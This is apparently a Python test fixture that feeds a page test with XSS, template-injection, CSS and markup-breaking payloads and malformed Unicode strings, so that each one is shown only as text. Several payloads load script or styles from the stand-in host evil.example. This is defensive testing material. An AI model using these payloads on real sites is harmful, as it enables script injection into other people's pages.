"""Texts that want to be markup, script, style or another direction; none may be more than text.

Each calls `hit()` where it can, which the page's test looks for.
"""

import re
from collections.abc import Iterator
from typing import Any

HIT = "hit()"

SCRIPTS = (
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    "</SCRIPT ><ScRiPt>hit()</sCrIpT>",
    "<script src=data:text/javascript,hit()></script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<!--<script>hit()//-->",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    "</style><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</noscript><script>hit()</script>",
    "</template><script>hit()</script>",
    "<script type=module>hit()</script>",
    "<script\x00>hit()</script>",
    "<script>/*\u2028*/hit()</script>",
    "';hit();//",
    '";hit();//',
    "`;hit();//${hit()}",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "<\uff53cript>hit()</\uff53cript>",
)
EVENTS = (
    "<img src=x onerror=hit()>",
    '"><img src=x onerror="hit()">',
    "'><img src=x onerror='hit()'>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\">",
    "<math><mtext><mglyph><style><img src=x onerror=hit()></style></mglyph></mtext></math>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<video><source onerror=hit()></video>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<button popovertarget=x onclick=hit()>x</button>",
    "<dialog open onclose=hit()>x</dialog>",
    '" autofocus onfocus=hit() x="',
    "' onmouseover=hit() x='",
    "x onpointerover=hit() tabindex=0",
)
LINKS = (
    "javascript:hit()",
    "<a href=javascript:hit()>x</a>",
    "<a href=' javascript:hit()'>x</a>",
    "[x](javascript:hit())",
    "data:text/html,<script>hit()</script>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "#article=x&q=<img src=x onerror=hit()>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "__proto__",
    "constructor",
    "toString",
)
STYLES = (
    "<style>*{display:none!important}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><style>body{background:url(//evil.example)}</style>",
    '<p style="position:fixed;inset:0;background:red">x</p>',
    '" style="position:fixed;inset:0" x="',
    "<plaintext>",
    "<xmp>",
    "<!--",
    "</main></body></html>",
)
LETTERS = (
    "\u202egnirts desrever\u202c",
    "\u202e\u202e\u202e never closed",
    "\u2067\u2066 isolates never closed",
    "\u200f\u200e\u061c marks",
    "שלום עולם 12 مرحبا بالعالم",
    "NUL \x00 and \x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x9f",
    "lone \ud800 and \udc00 halves",
    "not a character \ufffe\uffff",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e007f" * 9,
    "Z̡̢̛̗̘̙̜̝͇̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔ạ̢̡̛̗̘̙̜̝̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔l̡̢̛̗̘̙̜̝̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔g" * 20,
    "\u0085\u2028\u2029\ufeff\u00ad\u200b",
    "\r\r\n\n\r\t\v",
    "W" * 3_000,
    "ﷺ" * 500,
    "a\u0301" * 2_000,
    "\t" * 2_000 + "x",
)
PAYLOADS = (*SCRIPTS, *EVENTS, *LINKS, *TEMPLATES, *STYLES, *LETTERS)


def rows() -> Iterator[dict[str, Any]]:
    """Yield a row for each payload, which stands in all of its fields; then some that are huge."""
    for n, payload in enumerate(PAYLOADS):
        # A NUL or half a surrogate pair in an id or article is refused with its line.
        tame = re.sub("[\x00\ud800-\udfff]", "", payload)
        yield row(f"{n} {tame}", tame, payload)
    line = "x" * 1_000_000
    yield row("a long line", line, "A long line.")
    yield row("many words", "word " * 100_000, "Many words.")
    yield row("many lines", "\n".join("ab" for _ in range(30_000)), "Many lines.")
    yield row("long summary", "It is long.", "no end " * 50_000 + line[:100_000])
    yield row("long title", "It is long.", line[:100_000])


def row(key: str, payload: str, said: str) -> dict[str, Any]:
    return {
        "id": key,
        "title": said,
        "article": f"The mayor said 12 boats sank. {payload} “It was {payload[:200]} late.”",
        "summary": f"The mayor said 13 boats sank. {said} “It was never {said[:200]} late.”",
        "reference": f"Twelve boats. {payload[:20_000]}",
        "source": said[:300],
    }
